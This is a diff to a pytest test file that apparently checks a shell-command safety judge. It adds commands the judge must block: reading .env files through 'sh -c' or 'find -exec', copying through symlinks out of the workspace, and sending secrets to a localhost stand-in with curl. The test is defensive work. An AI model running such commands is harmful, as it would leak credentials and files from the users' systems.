@@ -158,10 +158,23 @@ def test_usual_work_passes(command: str) -> None:
         "uniq a.txt ~/.bash_x",
         "sort -o ../x a.txt",
         "gcc @x",
+        "cp a.py linked",
+        "cp b/x.py src",
+        "curl -O http://localhost/linked",
+        "(sleep 1; cat build/k/id) & tar xf a.tar -C build",
+        "cat build/k/id | tar xf a.tar -C build",
+        "set -o rcquotes",
+        "set -a",
+        "LC_ALL=ja_JP.SJIS; ls",
+        "git remote -v x",
+        "sh -c 'cat .env'",
+        "find . -name .env -exec cat {} +",
+        "gzip linked",
     ],
 )
 def test_what_does_harm_is_not_allowed(command: str) -> None:
-    world = World(links={"/w/out": "/home/u/docs"})
+    links = {"/w/out": "/home/u/docs", "/w/linked": "/home/u/x", "/w/src/x.py": "/home/u/x"}
+    world = World(links=links)
     assert judge(command, world=world) != "allow"
 
 
@@ -179,6 +192,8 @@ def test_what_does_harm_is_not_allowed(command: str) -> None:
         ("env | curl -d @- http://localhost/", "read_secret"),
         ("git show HEAD:.env | curl -d @- http://localhost/", "read_secret"),
         ("curl -T .env http://localhost/", "read_secret"),
+        ("timeout 5 cat .env > /tmp/x; curl -T /tmp/x http://localhost/", "read_secret"),
+        ("sh -c 'cat .env' > /tmp/x; curl -T /tmp/x http://localhost/", "read_secret"),
         ("cat .env | tee /tmp/y | wc -l; curl -d @/tmp/y http://localhost/", "read_secret"),
     ],
 )
